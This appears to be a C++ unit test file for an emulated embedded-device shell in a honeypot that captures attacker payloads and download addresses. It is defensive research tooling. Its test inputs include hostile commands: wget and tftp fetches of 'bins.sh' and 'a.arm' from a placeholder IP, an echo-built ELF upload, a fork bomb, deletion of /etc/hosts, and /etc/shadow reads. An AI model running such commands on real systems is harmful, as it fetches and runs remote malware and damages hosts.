#include "agent/shell/shell.hpp"

#include <gtest/gtest.h>

#include <chrono>

namespace apiary::agent::test {
namespace {

constexpr WallTime kNow = std::chrono::sys_days{std::chrono::year{2024} / 3 / 1};

class ShellTest : public testing::Test {
protected:
    std::string say(std::string_view line) { return answer(line).output; }

    Shell::Answer answer(std::string_view line) {
        Shell::Answer answer = shell_.line(line, kNow);
        for (const Evidence& piece : answer.evidence) {
            if (const auto* payload = std::get_if<PayloadPiece>(&piece)) {
                payloads_.push_back(*payload);
            } else if (const auto* command = std::get_if<Command>(&piece)) {
                commands_.push_back(*command);
            }
        }
        return answer;
    }

    static std::shared_ptr<const ShellHost> host(std::uint64_t seed = 7, const std::string& machine = "mips") {
        ShellHostSpec spec;
        spec.sensorSeed = seed;
        spec.machine = machine;
        spec.users = {"root", "support"};
        return ShellHost::make(spec);
    }

    std::shared_ptr<const ShellHost> host_ = host();
    Shell shell_{host_, "root", ""};
    std::vector<PayloadPiece> payloads_;
    std::vector<Command> commands_;
};

TEST_F(ShellTest, EndsWhereALineWouldHaveNoEnd) {
    say("echo a | grep '[[:]]'");  // a class without a name
    EXPECT_NE(say("sort -t: -k18446744073709551615 /etc/passwd"), "");
    say("cut -d '' -f1 /etc/passwd");
    say("D=./; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do D=$D$D; done");
    EXPECT_NE(say("mkdir -p $D").find("too long"), std::string::npos);
    say("A='1**'; for i in 1 2 3 4 5 6 7 8; do A=$A$A; done");
    EXPECT_EQ(say("echo $((${A}1))").find("\n1\n"), std::string::npos);
    std::string chain = "true";
    for (int i = 0; i < 1000; ++i) {
        chain += "&&true";
    }
    EXPECT_NE(say(chain).find("syntax error"), std::string::npos);
    EXPECT_EQ(say("echo alive"), "alive\n");
}

TEST_F(ShellTest, KeepsWhatALineTakesWithinBounds) {
    say("D=0123456789abcdef; for i in 1 2 3 4 5 6 7 8 9 10; do D=$D$D; done");
    std::size_t reported = 0;
    for (const Evidence& piece :
         answer("cd /tmp; for i in 1 2 3 4 5 6 7 8; do echo $D >>f; done; while :; do echo >>f; chmod 7 f; done")
             .evidence) {
        const auto* payload = std::get_if<PayloadPiece>(&piece);
        reported += payload != nullptr ? payload->bytes.size() : 0;
    }
    EXPECT_GT(reported, 100'000U);
    EXPECT_LE(reported, std::size_t{1} << 20U);
    say("X=':;'; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do X=$X$X; done");
    say("eval \"long() { $X }\"");
    EXPECT_NE(say("long").find("not found"), std::string::npos);
    say("short() { echo short; }");
    EXPECT_EQ(say("short"), "short\n");
    say("PATH=:::::::::; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do PATH=$PATH$PATH; done");
    say("which a b c d e f g h i j k l m n o p q r s t u v w x y z");
    EXPECT_EQ(say("case x in [[[[[[[[[[[[[[[[[x) echo in;; x) echo out;; esac"), "out\n");
    EXPECT_EQ(say("printf '%5d|%-3s|' 7 a").substr(0, 10), "    7|a  |");
    EXPECT_EQ(say("echo alive"), "alive\n");
}

TEST_F(ShellTest, ReadsAnUnfinishedCommandAnewOnlySoOften) {
    say("{");
    int lines = 1;
    for (std::string output; output.empty() && lines < 100'000; ++lines) {
        output = say(":                                                                ");
    }
    EXPECT_LT(lines, 2000);
    EXPECT_EQ(say("echo alive"), "alive\n");
}

TEST_F(ShellTest, AsksForTheRestOfAnUnfinishedCommand) {
    EXPECT_EQ(shell_.prompt().text, "~ # ");
    EXPECT_EQ(say("if true; then"), "");
    EXPECT_EQ(shell_.prompt().text, "> ");
    say("echo yes");
    EXPECT_EQ(say("fi"), "yes\n");
    EXPECT_EQ(shell_.prompt().text, "~ # ");
}

TEST_F(ShellTest, ReportsAnUploadByEchoOnceWhenItIsUsed) {
    say("echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/x");
    say("echo -ne '\\x01\\x02' >> /tmp/x");
    say("echo -ne '\\x03' >> /tmp/x");
    EXPECT_TRUE(payloads_.empty());
    say("chmod 777 /tmp/x");
    ASSERT_EQ(payloads_.size(), 1U);
    EXPECT_EQ(payloads_[0].bytes,
              "\x7f"
              "ELF\x01\x02\x03");
    EXPECT_EQ(payloads_[0].name, "/tmp/x");
    EXPECT_TRUE(payloads_[0].last);
    EXPECT_EQ(commands_.size(), 3U) << "echo, the first of the appending ones, chmod";
}

TEST_F(ShellTest, ReportsWhatALineWritesAndRemoves) {
    say("cd /tmp; echo evil > a; sh a; rm a");
    ASSERT_EQ(payloads_.size(), 1U);
    EXPECT_EQ(payloads_[0].bytes, "evil\n");
}

TEST_F(ShellTest, HandsOverWhatIsUnreportedAtTheEnd) {
    say("echo late > /tmp/late");
    const std::vector<Evidence> left = shell_.unreported();
    ASSERT_EQ(left.size(), 1U);
    EXPECT_EQ(std::get<PayloadPiece>(left[0]).bytes, "late\n");
    EXPECT_TRUE(shell_.unreported().empty());
}

TEST_F(ShellTest, RecordsTheAddressOfADownload) {
    say("wget http://192.0.2.7/bins.sh; tftp -g -r a.arm 192.0.2.7; ftpget -P 2121 192.0.2.7 x y");
    ASSERT_EQ(commands_.size(), 6U);
    EXPECT_EQ(commands_[1].verb, "fetch");
    EXPECT_EQ(commands_[1].argument, "http://192.0.2.7/bins.sh");
    EXPECT_EQ(commands_[3].argument, "tftp://192.0.2.7/a.arm");
    EXPECT_EQ(commands_[5].argument, "ftp://192.0.2.7:2121/y");
}

TEST_F(ShellTest, RecordsTheAddressForAProgramThatIsNotThere) {
    say("curl -sO http://192.0.2.7/x.sh; /usr/bin/curl ftp://192.0.2.7/y; nothing http:/ here");
    ASSERT_EQ(commands_.size(), 5U);
    EXPECT_EQ(commands_[1].verb, "fetch");
    EXPECT_EQ(commands_[1].argument, "http://192.0.2.7/x.sh");
    EXPECT_EQ(commands_[3].argument, "ftp://192.0.2.7/y");
    EXPECT_EQ(commands_[4].verb, "nothing");
}

TEST_F(ShellTest, RemembersWhatWasWrittenForTheNextVisit) {
    say("echo canary > /tmp/c; chmod 755 /tmp/c; mkdir /var/run/d; cp /bin/busybox /tmp/bb; rm /etc/hosts");
    const std::string memory = shell_.memory();
    EXPECT_LE(memory.size(), Shell::kMostMemory);
    shell_ = Shell(host_, "root", memory);
    EXPECT_EQ(say("cat /tmp/c"), "canary\n");
    EXPECT_EQ(say("ls -l /tmp/c | cut -c1-10"), "-rwxr-xr-x\n");
    EXPECT_EQ(say("ls -d /var/run/d /etc/hosts"), "ls: /etc/hosts: No such file or directory\n/var/run/d\n");
    EXPECT_EQ(say("/tmp/bb X"), "bb: applet not found\n");
}

TEST_F(ShellTest, KeepsItsMemoryBoundedWithTheNewestFiles) {
    for (int i = 0; i < 100; ++i) {
        shell_.line("yes $((9)) | head -n 300 > /tmp/f" + std::to_string(i), kNow + std::chrono::seconds(i));
    }
    const std::string memory = shell_.memory();
    EXPECT_LE(memory.size(), Shell::kMostMemory);
    shell_ = Shell(host_, "root", memory);
    EXPECT_EQ(say("ls /tmp/f99"), "/tmp/f99\n");
    EXPECT_EQ(say("wc -c < /tmp/f99"), "600\n");
}

TEST_F(ShellTest, TakesAnyBytesAsMemory) {
    shell_ = Shell(host_, "root", "f\t777\t\t99\t/../x\t\n+\n-\t/\nf\t755\t9\t5\t/no/where\tx\nd\t9\n\x01\t\xff");
    EXPECT_EQ(say("echo ok"), "ok\n");
}

TEST_F(ShellTest, EndsALoopThatWouldNotEnd) {
    say("while true; do echo x; done");
    EXPECT_LE(answer("while true; do echo x; done").output.size(), Shell::kMostOutput);
    EXPECT_LE(answer("while true; do sleep 1; done").takes, Shell::kMostTime);
    say(":(){ :|:& };:");
    EXPECT_EQ(say("echo alive"), "alive\n");
}

TEST_F(ShellTest, CutsOutputThatHasNoEnd) {
    EXPECT_LE(answer("cat /dev/urandom").output.size(), Shell::kMostOutput);
    EXPECT_LE(answer("yes").output.size(), Shell::kMostOutput);
    EXPECT_EQ(say("cat /dev/zero | head -c 3 | wc -c"), "3\n");
}

TEST_F(ShellTest, RefusesFilesBeyondItsDisk) {
    say("x=$(yes abcdefgh | head -c 60000)");
    for (int i = 0; i < 40; ++i) {
        say("echo \"$x\" > /tmp/f" + std::to_string(i));
    }
    EXPECT_NE(say("echo \"$x\" > /tmp/last").find("No space left on device"), std::string::npos);
}

TEST_F(ShellTest, ReadsTheTerminalForACommand) {
    EXPECT_EQ(say("cat > /tmp/f"), "");
    EXPECT_EQ(shell_.prompt().text, "");
    say("one");
    say("two");
    EXPECT_FALSE(shell_.endOfInput(kNow).exits);
    EXPECT_EQ(shell_.prompt().text, "~ # ");
    EXPECT_EQ(say("cat /tmp/f"), "one\ntwo\n");
    say("read a b");
    say("x y z");
    EXPECT_EQ(say("echo $b $a"), "y z x\n");
}

TEST_F(ShellTest, GivesUpACommandAtControlC) {
    say("cat");
    shell_.interrupt();
    EXPECT_EQ(say("echo $?"), "130\n");
    say("for i in 1");
    shell_.interrupt();
    EXPECT_EQ(shell_.prompt().text, "~ # ");
}

TEST_F(ShellTest, TellsThatACommandQuit) {
    say("cat");
    EXPECT_EQ(shell_.press(Shell::Key::Quit, Millis{0}, kNow).output, "Quit\n");
    EXPECT_EQ(say("echo $?"), "131\n");
}

TEST_F(ShellTest, LetsACommandInTheBackgroundSpeakBehindThePrompt) {
    const Shell::Answer first = answer("echo behind & echo before");
    EXPECT_EQ(first.output, "before\n");
    EXPECT_EQ(first.late, "behind\n");
    EXPECT_EQ(say("echo b & wait; echo a"),
              "b\na\n[2]+  Done                       echo b\n"
              "[1]+  Done                       echo behind\n");
}

TEST_F(ShellTest, TellsOfAJobWhenItIsOver) {
    EXPECT_EQ(say("sleep 3 & sleep 9 &"), "");
    EXPECT_EQ(say("jobs"), "[2]+  Running                    sleep 9\n[1]-  Running                    sleep 3\n");
    EXPECT_EQ(shell_.line("echo x", kNow + std::chrono::seconds(4)).output,
              "x\n[1]-  Done                       sleep 3\n");
}

TEST_F(ShellTest, EndsAJobThatIsKilled) {
    say("sleep 100 &");
    EXPECT_EQ(say("kill %1; sleep 1"), "[1]+  Terminated                 sleep 100\n");
    EXPECT_EQ(say("kill %1"), "-sh: kill: %1: no such job\n");
}

TEST_F(ShellTest, KeepsAStoppedCommandAsAJob) {
    say("sleep 100");
    EXPECT_EQ(shell_.press(Shell::Key::Suspend, Millis{0}, kNow).output,
              "[1]+  Stopped                    sleep 100\n");
    EXPECT_EQ(say("exit"), "You have stopped jobs.\n");
    EXPECT_TRUE(answer("exit").exits);
}

TEST_F(ShellTest, RunsATrapForASignalAndForTheEnd) {
    EXPECT_EQ(say("trap 'echo caught' USR1; kill -USR1 $$; echo on"), "caught\non\n");
    say("trap 'echo bye' EXIT");
    const Shell::Answer last = answer("exit 3");
    EXPECT_EQ(last.output, "bye\n");
    EXPECT_TRUE(last.exits);
}

TEST_F(ShellTest, EndsWhenItIsKilled) {
    const Shell::Answer last = answer("kill -9 $$; echo no");
    EXPECT_TRUE(last.exits);
    EXPECT_EQ(last.output, "");
}

TEST_F(ShellTest, BoundsWhatAliasesStandFor) {
    say("alias a='b b b b b b b b' b='c c c c c c c c' c='echo echo'");
    EXPECT_LT(say("a").size(), std::size_t{64});
    std::string deep = "alias x0=echo";
    for (int i = 1; i < 60; ++i) {
        deep += " x" + std::to_string(i) + "='x" + std::to_string(i - 1) + " '";
    }
    say(deep);
    EXPECT_EQ(say("x59 y"), "y\n");
    say("alias r='r; r'");
    EXPECT_NE(say("r").find("r: not found"), std::string::npos);
}

TEST_F(ShellTest, PutsAliasesInPlace) {
    const std::string word(300, 'x');
    say("alias long='echo " + word + "' e='echo ' none=''");
    EXPECT_EQ(say("long; long y"), word + '\n' + word + " y\n");
    EXPECT_EQ(say("e e; none e none z"), "echo\nz\n");
    say("e one; if e two");
    say("then long");
    EXPECT_EQ(say("fi; e three"), "one\ntwo\n" + word + "\nthree\n");
}

TEST_F(ShellTest, BoundsTrapsJobsAndRecursion) {
    say("trap 'kill -USR1 $$; kill -USR1 $$' USR1");
    say("kill -USR1 $$");
    EXPECT_LE(answer("f() { f; }; f").output.size(), Shell::kMostOutput);
    std::string many;
    for (int i = 0; i < 300; ++i) {
        many += "sleep 100 & ";
    }
    say(many);
    EXPECT_LE(say("jobs").size(), std::size_t{64} * 60);
    EXPECT_LE(answer("while :; do sleep 1 & done").takes, Shell::kMostTime);
}

TEST_F(ShellTest, OpensAShellInsideTheShell) {
    EXPECT_TRUE(say("sh").starts_with("\n\nBusyBox v1.35.0 ("));
    EXPECT_EQ(say("nofile"), "sh: nofile: not found\n");
    EXPECT_FALSE(answer("exit").exits);
    EXPECT_TRUE(answer("exit 3").exits);
}

TEST_F(ShellTest, RefusesAUserWhatIsRoots) {
    shell_ = Shell(host_, "support", "");
    EXPECT_EQ(shell_.prompt().text, "~ $ ");
    EXPECT_EQ(say("cat /etc/shadow"), "cat: can't open '/etc/shadow': Permission denied\n");
    EXPECT_EQ(say("echo x > /etc/passwd"), "-sh: can't create /etc/passwd: Permission denied\n");
    EXPECT_EQ(say("echo x > a; cat a; id -u"), "x\n1001\n");
}

TEST_F(ShellTest, ShowsTheHeadOfAProgramForItsMachine) {
    EXPECT_EQ(say("dd if=/bin/busybox bs=20 count=1 2>/dev/null | hexdump -C").substr(0, 58),
              "00000000  7f 45 4c 46 01 02 01 00  00 00 00 00 00 00 00 00");
    shell_ = Shell(host(7, "armv7l"), "root", "");
    EXPECT_EQ(say("uname -m"), "armv7l\n");
    EXPECT_EQ(say("dd if=/bin/busybox bs=20 count=1 2>/dev/null | tail -c 2 | hexdump -C").substr(0, 15),
              "00000000  28 00");
}

TEST_F(ShellTest, IsTheSameMachineForTheSameSeedOnly) {
    Shell again(host(7), "root", "");
    Shell other(host(8), "root", "");
    for (const char* line : {"ps", "ifconfig", "cat /proc/version", "uptime"}) {
        const std::string here = say(line);
        EXPECT_EQ(again.line(line, kNow).output, here) << line;
        EXPECT_NE(other.line(line, kNow).output, here) << line;
    }
}

TEST_F(ShellTest, HasTheProgramsOfItsProcesses) {
    for (const char* path : {"/sbin/syslogd", "/usr/sbin/telnetd", "/usr/sbin/httpd", "/sbin/init"}) {
        EXPECT_EQ(say(std::string("test -x ") + path + " && " + path + "; echo $?"), "0\n") << path;
    }
}

TEST_F(ShellTest, KillsAnUploadedProgramForItsOwnMachine) {
    EXPECT_EQ(say("dd if=/bin/ls of=/tmp/p bs=512 count=4 2>/dev/null; chmod 755 /tmp/p; /tmp/p; echo $?"),
              "Segmentation fault\n139\n");
    ASSERT_EQ(payloads_.size(), 1U);
    EXPECT_EQ(payloads_[0].bytes.size(), 2048U);
}

TEST_F(ShellTest, LetsTheUptimeGrowWithTheClock) {
    const auto up = [&](WallTime now) { return std::stod(shell_.line("cat /proc/uptime", now).output); };
    EXPECT_NEAR(up(kNow + std::chrono::seconds(90)) - up(kNow), 90, 1);
}

}  // namespace
}  // namespace apiary::agent::test
